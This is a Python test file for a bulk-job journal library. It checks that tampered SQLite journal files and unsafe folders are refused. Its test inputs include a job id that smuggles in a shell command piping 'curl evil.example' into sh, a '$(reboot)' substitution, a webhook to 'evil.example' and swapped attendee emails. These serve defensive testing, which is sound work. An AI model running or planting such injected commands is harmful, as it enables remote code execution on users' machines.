"""A journal is data, never instructions: what somebody else has prepared is refused, and does nothing."""

import json
import os
import sqlite3
import stat
from collections.abc import Callable
from contextlib import closing
from itertools import islice
from pathlib import Path
from typing import Any

import pytest

from airmeet_async import BulkJob, JournalError
from airmeet_async.bulk.journal import locking
from airmeet_async.bulk.journal.locking import SIDE_FILES, holder_of
from airmeet_async.bulk.journal.queries import count_stale_rows, read_results, read_summary
from airmeet_async.bulk.journal.row_encoding import check_payload
from airmeet_async.bulk.journal.writer import JournalWriter
from airmeet_async.bulk.row import CallTemplate
from airmeet_async.protocol import json_codec
from airmeet_async.protocol.endpoints import ENDPOINTS
from tests.bulk.journal.conftest import add_list, left, opened, people, settle
from tests.support.worlds import EVENT, client_of, sends, transport_of
from tests.support.worlds import people as people_of

SENT = "INSERT INTO input (id, line, entry) VALUES (99, 1, 1)"


def make(path: Path) -> None:
    writer = opened(path)
    number = add_list(writer, people("a b"))
    settle(writer, number, left(writer, number)[0])
    writer.close()


def change(path: Path, *statements: str) -> None:
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        connection.create_function("other", 2, other)
        for statement in statements:
            connection.execute(statement)


def other(text: str, changed: str) -> str:
    return json.dumps(json.loads(text) | json.loads(changed))


def use(path: Path) -> None:
    """Open it in all ways, and read all rows."""
    read_summary(path)
    list(read_results(path))
    count_stale_rows(path)
    writer = JournalWriter(path)
    try:
        writer.facts()
        for found in writer.lists():
            writer.open_rows(found.id, -1, 10)
            writer.settled_rows(found.id, -1, 10)
    finally:
        writer.close()


def refusal(path: Path, use: Callable[[Path], Any]) -> str:
    before = path.read_bytes()
    with pytest.raises(JournalError) as caught:
        use(path)
    assert path.read_bytes() == before
    return str(caught.value)


# The folder


@pytest.fixture
def shared(tmp_path: Path) -> Path:
    folder = tmp_path / "shared"
    folder.mkdir()
    return folder


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o702])
def test_a_folder_that_everybody_can_write_is_refused_with_a_path_that_works(
    shared: Path, mode: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOME", str(shared.parent))
    shared.chmod(mode)

    with pytest.raises(JournalError, match="everybody can write in it") as caught:
        JournalWriter(shared / "launch.job")

    assert list(shared.iterdir()) == []
    JournalWriter(Path(str(caught.value).rpartition("such as ")[2])).close()


def test_an_own_group_may_write_and_one_with_other_members_may_not(
    shared: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import grp

    shared.chmod(0o770)
    JournalWriter(shared / "own.job").close()

    group = grp.struct_group((grp.getgrgid(os.getgid()).gr_name, "x", os.getgid(), ["mallory"]))
    monkeypatch.setattr(grp, "getgrgid", lambda _: group)

    assert f"the group {group.gr_name} can write" in refusal(shared / "own.job", JournalWriter)


def test_a_folder_above_that_others_can_write_is_refused(shared: Path) -> None:
    """They could put another folder in its place; not where the sticky bit keeps them from that, as in /tmp."""
    own = shared / "own"
    own.mkdir(0o700)
    shared.chmod(0o777)

    with pytest.raises(JournalError, match=f"{shared}: everybody can write in it"):
        JournalWriter(own / "launch.job")

    shared.chmod(0o1777)
    JournalWriter(own / "launch.job").close()


def test_a_journal_in_such_a_folder_is_moved_with_what_the_message_says(
    shared: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import subprocess

    path = shared / "a launch.job"
    make(path)
    shared.chmod(0o1777)
    home = shared.parent / "home"
    home.mkdir(0o700)
    monkeypatch.setenv("HOME", str(home))

    said = refusal(path, use)
    subprocess.run(said.rpartition(": ")[2], shell=True, check=True)  # noqa: S602 - as somebody would type it

    assert read_summary(home / path.name).rows == 2


@pytest.mark.skipif(os.getuid() != 0, reason="only the superuser can give a folder away")
def test_a_folder_of_another_user_is_refused_unless_one_is_the_superuser(shared: Path) -> None:
    os.chown(shared, 12345, 12345)
    JournalWriter(shared / "of-root.job").close()

    child = os.fork()
    if child == 0:  # another user, with a folder of a third one: nobody's test but this process's
        os.setresuid(12346, 12346, 12346)
        try:
            locking.check_place(shared / "launch.job")
        except JournalError as error:
            os._exit(0 if "belongs to another user" in str(error) or "Permission" in str(error) else 2)
        os._exit(1)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


# Files beside it


def as_symlink(part: Path) -> None:
    part.symlink_to(part.with_name("elsewhere"))


def as_hard_link(part: Path) -> None:
    part.with_name("elsewhere").touch(0o600)
    part.hardlink_to(part.with_name("elsewhere"))


def as_open_to_others(part: Path) -> None:
    part.touch()
    part.chmod(0o644)


def as_another_users(part: Path) -> None:
    part.touch(0o600)
    if os.getuid():
        pytest.skip("only the superuser can give a file away")
    os.chown(part, 12345, 12345)


@pytest.mark.parametrize("ending", SIDE_FILES)
@pytest.mark.parametrize("prepare", [as_symlink, as_hard_link, as_open_to_others, as_another_users, os.mkfifo])
@pytest.mark.parametrize("use", [JournalWriter, read_summary, lambda path: list(read_results(path))])
def test_a_side_file_that_is_not_ours_is_refused(
    path: Path, ending: str, prepare: Callable[[Path], object], use: Callable[[Path], object]
) -> None:
    make(path)
    part = path.with_name(path.name + ending)
    part.unlink(missing_ok=True)
    prepare(part)

    assert str(part) in refusal(path, use)
    assert holder_of(path) is None


def test_what_was_refused_is_not_opened_to_be_tidied_up(path: Path) -> None:
    """An empty -wal and a -journal of somebody else: opened for writing, SQLite would roll that back into the file."""
    make(path)
    for ending in ("-wal", "-journal"):
        part = path.with_name(path.name + ending)
        part.touch()
        part.chmod(0o644)
    before = {file: file.stat().st_mtime_ns for file in path.parent.iterdir()}

    with pytest.raises(JournalError):
        read_summary(path)

    assert {file: file.stat().st_mtime_ns for file in path.parent.iterdir()} == before


@pytest.mark.parametrize("mask", [0o000, 0o002, 0o022])
def test_no_mask_opens_a_file_to_others(path: Path, mask: int) -> None:
    before = os.umask(mask)
    try:
        writer = opened(path)
        add_list(writer, people("a"))
        modes = {stat.S_IMODE(one.stat().st_mode) for one in path.parent.iterdir() if one.is_file()}
        writer.close()
    finally:
        os.umask(before)

    assert modes == {0o600}


# What is in it


@pytest.mark.parametrize(
    "statement",
    [
        f"CREATE TRIGGER t AFTER UPDATE ON list BEGIN {SENT}; END",
        f"CREATE TRIGGER t AFTER INSERT ON outcome BEGIN {SENT}; END",
        "CREATE VIEW v AS SELECT * FROM entry",
        "CREATE TABLE more (x)",
        "CREATE INDEX more ON entry (key)",
        "ALTER TABLE entry ADD COLUMN more TEXT",
        "ALTER TABLE entry RENAME COLUMN data TO other",
        "DROP TABLE outcome",
    ],
)
def test_an_unexpected_schema_is_refused_before_anything_is_done(path: Path, statement: str) -> None:
    make(path)
    change(path, statement)

    assert "no run file has" in refusal(path, JournalWriter)
    assert "no run file has" in refusal(path, read_summary)


def test_a_table_behind_a_view_is_refused(path: Path) -> None:
    make(path)
    change(path, "ALTER TABLE entry RENAME TO hidden", "CREATE VIEW entry AS SELECT * FROM hidden")

    assert "no run file has" in refusal(path, JournalWriter)


HOOK = '["webhooks.register",{},{}'
LISTS = "UPDATE list SET facts = other(facts, '{}')"
FACTS = "UPDATE facts SET value = '{}' WHERE name = '{}'"
NOTE = "UPDATE input SET status = 'invalid', note = '{}'"
REQUEST = "UPDATE entry SET request = '{}'"


@pytest.mark.parametrize(
    "statement",
    [
        # another operation than the one in the head, for the list or for a row of it
        LISTS.format('{"template": ["webhooks.register", {}, {}]}'),
        LISTS.format('{"template": ["attendees.block", {"airmeet_id": "event"}, {}]}'),
        LISTS.format('{"template": ["auth", {}, {}]}'),
        LISTS.format('{"template": ["nonsense", {}, {}]}'),
        LISTS.format('{"template": null}'),
        REQUEST.format(HOOK + ',{"url":"https://evil.example"}]'),
        REQUEST.format('["attendees.add",{"airmeet_id":"event"},{},{"email":"a@b.de"}]'),
        REQUEST.format(HOOK + ",{}]").replace("entry", "input"),
        REQUEST.format(HOOK + ",{}]").replace("entry", "outcome") + ", unclear = 1",
        # what is no request, or contradicts the flags of its list
        REQUEST.format("no JSON"),
        REQUEST.format('{"email":"a@b.de","x":{"y":1}'),
        REQUEST.format(' ["webhooks.register"'),
        FACTS.format('"attendees.block"', "operation"),
        FACTS.format('"custom"', "operation"),
        # another event, or none
        LISTS.format('{"template": ["attendees.add", {"airmeet_id": "other"}, {}]}'),
        LISTS.format('{"template": ["attendees.add", {"airmeet_id": ".."}, {}]}'),
        LISTS.format('{"template": ["attendees.add", {}, {}]}'),
        LISTS.format('{"template": ["attendees.add", {"airmeet_id": "event", "more": "x"}, {}]}'),
        LISTS.format('{"template": ["attendees.add", {"airmeet_id": "event"}, {"x": "y"}]}'),
        LISTS.format('{"template": ["attendees.add", {"airmeet_id": "event"}, {}, {"more": true}]}'),
        LISTS.format('{"template": ["attendees.add", {"airmeet_id": "event"}, {}, {"sendEmailInvite": 1}]}'),
        FACTS.format('"other"', "airmeet_id"),
        FACTS.format('".."', "airmeet_id"),
        FACTS.format('"a/b"', "airmeet_id"),
        # values of other types
        *(FACTS.format("[1]", name) for name in ("operation", "airmeet_id", "base", "salt", "run")),
        *(LISTS.format('{"' + name + '": 5}') for name in ("template", "options", "source", "columns", "note", "name")),
        LISTS.format('{"columns": ["email", ["a"]]}'),
        LISTS.format('{"columns": [], "source": {"header": ["email", 5]}}'),
        LISTS.format('{"columns": [], "source": {"header": "email"}}'),
        # an id that people would copy into a shell with "airmeet resume"
        LISTS.format('{"job": "x; curl evil.example | sh"}'),
        LISTS.format('{"job": "-o"}'),
        LISTS.format('{"job": ["a"]}'),
        FACTS.format('"$(reboot)"', "job"),
        "UPDATE list SET id = 9223372036854775807",
        "UPDATE list SET facts = '[]'",
        "UPDATE list SET facts = '{'",
        "UPDATE facts SET value = '" + "[" * 100_000 + "'",
        "UPDATE outcome SET note = '[]'",
        "UPDATE outcome SET note = '{\"error\": 5}'",
        'UPDATE outcome SET note = \'{"error": {"code": [1], "message": {}}}\'',
        NOTE.format('{"key": 5}'),
        NOTE.format('{"warnings": [["x"]]}'),
        NOTE.format('{"warnings": [[5, "x"]]}'),
        NOTE.format('{"duplicate_of": "x"}'),
        LISTS.format('{"ignored": 5}'),
    ],
)
def test_what_no_run_has_recorded_is_an_error_of_the_file(path: Path, statement: str) -> None:
    writer = opened(path)
    writer.write_facts({"base": "https://x.example", "airmeet_id": "event", "job": "1234abcd"})
    writer.close()
    make(path)
    change(path, statement)

    assert str(path) in refusal(path, use)


def test_a_run_of_a_program_takes_no_call_with_the_keys_and_no_odd_path(path: Path) -> None:
    for request in (
        HOOK + ',{"url":"https://evil.example"}]',
        '["attendees.remove",{"airmeet_id":"..","email":"a@b.de"},{},null]',
        '["attendees.remove",{"airmeet_id":"event","email":".."},{},null]',
        '["attendees.remove",{"airmeet_id":"event"},{},null]',
        '["airmeets.list",{},{"size":5},null]',
    ):
        writer = opened(path, "custom")
        number = writer.begin_list({"name": "", "options": {}, "template": None})
        writer.add(number, people("a"))
        writer.end_list(number)
        writer.confirm_list(number)
        writer.close()
        change(path, REQUEST.format(request))

        assert str(path) in refusal(path, use)
        path.unlink()


def test_an_odd_note_is_an_error_of_the_file_for_a_plan_too(path: Path) -> None:
    make(path)
    change(path, NOTE.format('{"warnings": [["x"]]}'))
    writer = JournalWriter(path)
    try:
        with pytest.raises(JournalError, match=r"no run has recorded .* so nothing more is sent"):
            list(writer.noted_rows(writer.lists()[0].id))
    finally:
        writer.close()


def test_rows_out_of_order_in_a_page_are_an_error_and_not_read_forever(path: Path) -> None:
    """SQLite believes a page, and a run reads on from the last row that it has read."""
    writer = opened(path)
    add_list(writer, people("a b c d"))
    writer.close()
    content = bytearray(path.read_bytes())
    varint = bytes([0x90, 0x80, 0x80, 0x80, 0x02])  # the number of the third row of the first list
    assert content.count(varint) == 1
    place = content.index(varint)
    content[place : place + 5] = bytes([0x90, 0x80, 0x9C, 0x80, 0x02])
    path.write_bytes(content)

    assert "out of order" in refusal(path, lambda path: list(islice(read_results(path), 100)))
    assert "out of order" in refusal(path, use)


@pytest.mark.parametrize("flag", ["registerAttendee", "sendEmailInvite"])
def test_a_row_has_no_flag_that_its_list_has_not(path: Path, flag: str) -> None:
    """It would stand in the body twice, and a server could go by the first one and mail everybody."""
    make(path)
    flags = '["attendees.add", {"airmeet_id": "event"}, {}, {"registerAttendee": false, "sendEmailInvite": false}]'
    change(path, LISTS.format('{"template": ' + flags + "}"))
    use(path)
    change(path, REQUEST.format(f'{{"email":"a@b.de","{flag}":true}}'))

    assert "asks for something else than its list" in refusal(path, use)


def test_what_is_said_of_a_list_is_what_its_requests_ask_for(path: Path) -> None:
    """A file cannot say that nobody is mailed, and mail everybody."""
    make(path)
    change(path, LISTS.format('{"options": {"sendEmailInvite": false}}'))
    change(
        path,
        LISTS.format('{"template": ["attendees.add", {"airmeet_id": "event"}, {}, {"sendEmailInvite": true}]}'),
    )

    assert read_summary(path).about["options"]["sendEmailInvite"] is True


def test_a_row_is_sent_for_whom_its_results_name(path: Path) -> None:
    """Else a file shows one person, and lets another one in."""
    for statement, why in (
        ("UPDATE entry SET request = replace(request, 'b@', 'evil@')", "line 3: b@example.com is shown"),
        (REQUEST.format('{"email":"evil@b.de"}'), "is shown, and the request is about somebody"),
        (REQUEST.format('{"attendeeEmail":"a@example.com"}'), "is shown, and the request is about somebody"),
        ("UPDATE entry SET key = 'shown@b.de'", "shown@b.de is shown"),
        (NOTE.format('{"key": "shown@b.de"}'), "shown@b.de is shown"),
        (REQUEST.format('{"email":"a@example.com","email":"evil@b.de"}'), "line 2: a@example.com is shown"),
        (
            "UPDATE entry SET request = replace(request, '{', '{\"lastName\":\"Evil\",')",
            "line 2: a request says something twice",
        ),
        ("UPDATE entry SET request = replace(request, 'lastName', 'sendMail')", "has a member 'sendMail'"),
        ('UPDATE entry SET request = other(request, \'{"lastName":"Evil"}\')', "a@example.com is not called 'Evil'"),
        ('UPDATE entry SET data = other(data, \'{"last_name":"Shown"}\')', "line 2: a@example.com is not called 'L'"),
    ):
        make(path)
        change(path, statement)
        assert why in refusal(path, use), statement
        if "'invalid'" not in statement:  # such a row is not sent
            assert why in refusal(path, check), statement
        path.unlink()


def check(path: Path) -> None:
    """Do what a run does with each list before it sends a row."""
    with closing(JournalWriter(path)) as writer:
        for found in writer.lists():
            writer.check_rows(found.id)


@pytest.mark.parametrize(
    "data",
    [
        {"Name": "van der Berg, Zoe\u0301 Ann", "E-Mail": "x"},
        {"Given": "\u200eZoe\u0301  Ann", "Family": "van\tder Berg", "Age": 5},
        {"first_name": ["Zoe\u0301", "Ann"], "last_name": " van der Berg"},
        ["Somebody", "else"],  # nothing of it is shown
        None,
    ],
)
def test_names_may_be_parts_of_what_is_shown(data: Any) -> None:
    payload = json_codec.encode({"email": "a@b.de", "firstName": "Zoe\u0301 Ann", "lastName": "van der Berg"})
    template = CallTemplate(ENDPOINTS["attendees.add"], {"airmeet_id": "event"})

    check_payload(payload, template, "a@b.de", data)


async def test_nothing_is_sent_of_a_list_whose_last_row_is_about_somebody_else(path: Path) -> None:
    """Rows are read while others are sent, so all of them are looked at first: for the plan, and for a run without."""
    transport = transport_of()
    async with client_of(transport) as client:
        job = client.bulk.add_attendees(EVENT, [*people_of(600)], send_email_invite=False, journal=path)
        async with job:
            async for _ in job:
                job.stop()
        sent = sends(transport)
        change(path, "UPDATE entry SET request = replace(request, 'person-599@', 'evil@')")

        for start in (BulkJob.prepare, BulkJob.__aenter__):
            job = client.bulk.resume(path)
            with pytest.raises(JournalError, match=r"row 600: person-599@example.com is shown"):
                await start(job)
            await job.discard()
    assert sends(transport) == sent


@pytest.mark.parametrize(
    ("operation", "key", "payload", "evil"),
    [
        ("attendees.block", "a@b.de", {"attendeeEmail": "a@b.de"}, {"attendeeEmail": "x@b.de"}),
        ("attendees.unblock", "a@b.de", {"attendeeEmail": "A@b.de"}, {"attendeeEmail": "a@b.de", "email": "x@b.de"}),
        ("speakers.add", "a@b.de", {"email": "a@b.de", "name": "A"}, {"email": "x@b.de", "name": "A"}),
        ("booths.create", "Tea", {"name": "Tea"}, {"name": "Evil"}),
        (
            "sessions.create", "Talk at 2030-01-01T10:00:00+00:00",
            {"sessionTitle": "Talk", "sessionStartTime": 1_893_492_000_000},
            {"sessionTitle": "Talk", "sessionStartTime": 1_893_492_060_000},
        ),
        ("sessions.create", "a at b at 2030-01-01T10:00:00+00:00",
         {"sessionTitle": "a at b", "sessionStartTime": 1_893_492_000_000}, {"sessionTitle": "a"}),
    ],
)  # fmt: skip
def test_what_a_row_is_called_is_what_each_operation_is_about(
    operation: str, key: str, payload: dict[str, Any], evil: dict[str, Any]
) -> None:
    template = CallTemplate(ENDPOINTS[operation], {"airmeet_id": "event"})
    check_payload(json_codec.encode(payload), template, key)

    with pytest.raises(ValueError):
        check_payload(json_codec.encode(evil), template, key)
